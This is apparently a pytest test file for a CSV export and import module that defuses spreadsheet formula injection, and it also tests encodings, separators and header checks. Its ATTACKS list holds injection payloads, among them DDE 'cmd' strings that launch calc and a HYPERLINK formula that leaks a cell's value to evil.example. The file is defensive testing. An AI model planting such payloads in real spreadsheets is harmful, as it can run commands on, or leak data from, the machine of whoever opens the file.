"""CSV that spreadsheets can open, and do not run."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hallwaytrack import DecodeError
from hallwaytrack.formats.sheets import headed, neutralised, restored, rows_of, sheet

SIGNS = "=+-@\t\r"
TEXTS = st.text(alphabet="=+-@\t\r\n ;,|'\"a＝＋－＠é", max_size=12) | st.text(max_size=12)
ATTACKS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
    'x;=HYPERLINK("https://evil.example?"&A1)',
    "x,=1+1",
    'x";=1+1',
    "x\n=1+1",
    "x\t@SUM(1)",
    ";=1;+2,-3",
)


def cells(data: bytes) -> list[list[str]]:
    return [row for _, row in rows_of(data)]


def opened(data: bytes, delimiter: str) -> list[str]:
    """Every cell that a spreadsheet shows that takes this for the separator."""
    text = data.decode("utf-8-sig")
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


class TestNeutralised:
    @pytest.mark.parametrize("attack", ATTACKS)
    def test_no_cell_begins_a_formula(self, attack: str) -> None:
        cell = neutralised(attack)
        assert not re.match(r"[ ]*[=+\-@\t\r＝]", cell)
        assert not re.search(r"[;,\t\n\r\"|] *[=+\-@＝]", cell)

    @pytest.mark.parametrize("attack", ATTACKS)
    @pytest.mark.parametrize("delimiter", [",", ";", "\t"])
    def test_not_with_another_separator_either(self, attack: str, delimiter: str) -> None:
        for cell in opened(sheet([["shift", attack, "x"]]), delimiter):
            assert not re.match(r"[\s\"]*[=+\-@＝]", cell)

    @pytest.mark.parametrize(
        "text", ["", "Put up the banner", "a=b", "1-2", "'tis", "O'Neill", "x, y; z", "ada+bob"]
    )
    def test_other_text_is_left_alone(self, text: str) -> None:
        assert neutralised(text) == text

    @given(TEXTS)
    def test_is_restored(self, text: str) -> None:
        assert restored(neutralised(text)) == text

    @pytest.mark.parametrize("attack", ATTACKS)
    def test_attacks_are_restored(self, attack: str) -> None:
        assert restored(neutralised(attack)) == attack
        assert cells(sheet([[attack, "x"]])) == [[attack, "x"]]

    def test_what_a_person_wrote_is_what_they_meant(self) -> None:
        assert (restored("=1+1"), restored("'tis"), restored("''=1")) == ("=1+1", "'tis", "'=1")


class TestSheet:
    def test_is_what_excel_opens(self) -> None:
        assert sheet([["a", "Zoë"], ['"', "x,y"]]) == (
            b'\xef\xbb\xbfa,Zo\xc3\xab\r\n"""","x,y"\r\n'
        )

    @given(st.lists(st.lists(TEXTS, min_size=2, max_size=3), max_size=3))
    def test_comes_back(self, rows: list[list[str]]) -> None:
        kept = [row for row in rows if any(cell.strip() for cell in row)]
        head = ["a", "b", "c"]
        assert cells(sheet([head, *rows])) == [head, *kept]


class TestRows:
    @pytest.mark.parametrize(
        "data",
        [
            b"a,b\r\n1,2\r\n",
            b"a,b\n1,2",
            b"a,b\r1,2\r",
            b"\xef\xbb\xbfa,b\n1,2\n",
            b"a;b\n1;2\n",
            b"a\tb\n1\t2\n",
            b"sep=;\r\na;b\r\n1;2\r\n",
            b"SEP=\t\na\tb\n1\t2\n",
            b'"a","b"\n"1","2"\n',
            b"\n\n,,\na,b\n,\n1,2\n;\n".replace(b"\n;", b""),
            "a;b\n1;2\n".encode("utf-16"),
            "\ufeffa\tb\r\n1\t2\r\n".encode("utf-16-be"),
        ],
    )
    def test_what_spreadsheets_save(self, data: bytes) -> None:
        assert cells(data) == [["a", "b"], ["1", "2"]]

    def test_have_the_lines_on_which_they_begin(self) -> None:
        data = b'sep=,\na,b\n\n"1\n2",x\n3,4\n'
        assert list(rows_of(data)) == [(2, ["a", "b"]), (4, ["1\n2", "x"]), (6, ["3", "4"])]

    def test_a_separator_in_a_cell_is_text(self) -> None:
        assert cells(b'a;b\n"1;2";"3,4"\n') == [["a", "b"], ["1;2", "3,4"]]

    @pytest.mark.parametrize(
        ("data", "line", "message"),
        [
            (b"a,b\nZo\xeb,1\n", 2, r"a table must be in UTF-8.*CSV UTF-8"),
            (b"\xff\xfea", 1, r"a table must be in UTF-8"),
            (b'a,b\n"1,2\n3,4\n', 2, r"the table is broken \(unexpected end of data\)"),
            (b'a,b\n1,2\n"3"x,4\n', 3, r"the table is broken"),
            (b"a,b\n" + b"x" * 200_000, 2, r"the table is broken \(field larger"),
        ],
    )
    def test_what_is_no_table(self, data: bytes, line: int, message: str) -> None:
        with pytest.raises(DecodeError, match=message) as error:
            list(rows_of(data))
        assert [problem.line for problem in error.value.problems] == [line]

    def test_no_more_than_a_limit_is_read(self) -> None:
        assert list(rows_of(b"a,b\n", max_bytes=4)) == list(rows_of(b"a,b\n", max_bytes=None))
        with pytest.raises(DecodeError, match="no more than 3 bytes, got 4$"):
            list(rows_of(b"a,b\n", max_bytes=3))

    @given(st.binary(max_size=60))
    def test_nothing_but_our_error_is_raised(self, data: bytes) -> None:
        try:
            list(rows_of(data))
        except DecodeError as error:
            assert error.problems[0].line


class TestHeaded:
    def head(self, data: bytes) -> list[str]:
        return list(headed(rows_of(data), ("shift", "role", "person"), ("shift", "person")))

    def test_names_the_columns_in_any_order(self) -> None:
        assert self.head(b" Person ,T-shirt,SHIFT\n") == ["person", "", "shift"]

    @pytest.mark.parametrize("data", [b"", b"\n\n", b"role\n", b"a,b\n1,2\n"])
    def test_needs_some(self, data: bytes) -> None:
        with pytest.raises(DecodeError) as error:
            self.head(data)
        assert [str(problem) for problem in error.value.problems] == [
            "the table must have a column 'shift'",
            "the table must have a column 'person'",
        ]

    def test_has_each_once(self) -> None:
        with pytest.raises(DecodeError, match="^the table has two columns 'person'$"):
            self.head(b"shift,person,x,Person,x\n")
